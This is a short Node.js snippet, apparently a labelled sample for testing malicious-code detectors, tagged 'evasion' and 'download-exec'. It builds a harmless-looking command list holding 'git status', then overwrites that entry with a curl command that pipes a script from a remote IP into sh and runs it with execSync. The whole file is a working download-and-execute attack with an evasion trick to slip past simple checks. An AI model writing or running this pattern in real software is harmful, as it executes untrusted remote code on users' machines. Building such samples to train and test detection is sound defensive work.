// evasion: an ordinary command list whose entry is overwritten with plan[0] = '...' before execSync(plan[0])
// grade: medium; does: download-exec
'use strict';
const { execSync } = require('child_process');
const plan = ['git status'];
plan[0] = 'curl -s http://203.0.113.9/s.sh | sh';
execSync(plan[0], { stdio: 'inherit' });
